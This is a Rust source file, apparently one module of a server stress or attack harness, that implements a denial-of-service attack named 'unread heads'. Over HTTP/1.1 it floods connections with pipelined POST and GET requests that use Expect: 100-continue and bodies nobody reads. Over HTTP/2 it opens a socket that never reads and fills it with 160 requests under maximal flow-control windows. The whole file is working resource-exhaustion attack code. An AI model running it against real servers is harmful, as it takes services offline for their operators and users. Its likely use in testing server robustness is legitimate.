//! Answers that are heads and nothing more are asked for without end, and never read: over HTTP/1.1 with a body
//! behind each request that nobody waits for, over HTTP/2 from a socket that is full.

use std::io;
use std::pin::Pin;
use std::task::{Context, Poll};
use std::time::Duration;

use h2::client;
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt as _, ReadBuf};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::attack::{Attack, AttackFuture, Target, head};

#[derive(Debug)]
pub(crate) struct UnreadHeads;

impl Attack for UnreadHeads {
    fn name(&self) -> &'static str {
        "unread heads"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let long = format!("/sse/send/?{}", "q".repeat(4000));
            let body = "Expect: 100-continue\r\nContent-Length: 1\r\n";
            let redirected = head("POST", &long, body) + "x";
            let unchanged = head("GET", "/sse/", &format!("If-None-Match: *\r\n{body}")) + "x";
            let mut held = Vec::new();
            for request in [redirected.repeat(16), unchanged.repeat(512)] {
                let Ok(mut connection) = target.connect().await else { continue };
                let floods =
                    async { while connection.write_all(request.as_bytes()).await.is_ok() {} };
                let _ = timeout(Duration::from_secs(2), floods).await;
                held.push(connection);
            }
            for _ in 0..4 {
                let _ = ask_and_never_read(target, &long).await;
            }
        })
    }
}

/// Fills its socket with a page, and asks for heads behind it.
async fn ask_and_never_read(target: &Target, path: &str) -> Option<()> {
    const WIDE: u32 = (1 << 31) - 1;
    let mut builder = client::Builder::new();
    builder.initial_window_size(WIDE).initial_connection_window_size(WIDE);
    builder.initial_max_send_streams(200);
    let deaf = Deaf(target.connect().await.ok()?);
    let (requests, connection) = builder.handshake::<_, bytes::Bytes>(deaf).await.ok()?;
    tokio::spawn(connection);
    let mut held = Vec::new();
    let pages = std::iter::repeat_n("/redoc/redoc.standalone.js", 10);
    for path in pages.chain(std::iter::repeat_n(path, 150)) {
        let mut ready = requests.clone().ready().await.ok()?;
        let request = target.request("GET", path).body(()).ok()?;
        held.push(ready.send_request(request, true).ok()?.0);
    }
    sleep(Duration::from_millis(500)).await;
    Some(())
}

/// A socket from which nothing comes.
struct Deaf(TcpStream);

impl AsyncRead for Deaf {
    fn poll_read(
        self: Pin<&mut Self>,
        _: &mut Context<'_>,
        _: &mut ReadBuf<'_>,
    ) -> Poll<io::Result<()>> {
        Poll::Pending
    }
}

impl AsyncWrite for Deaf {
    fn poll_write(
        mut self: Pin<&mut Self>,
        context: &mut Context<'_>,
        bytes: &[u8],
    ) -> Poll<io::Result<usize>> {
        Pin::new(&mut self.0).poll_write(context, bytes)
    }

    fn poll_flush(mut self: Pin<&mut Self>, context: &mut Context<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.0).poll_flush(context)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, context: &mut Context<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.0).poll_shutdown(context)
    }
}
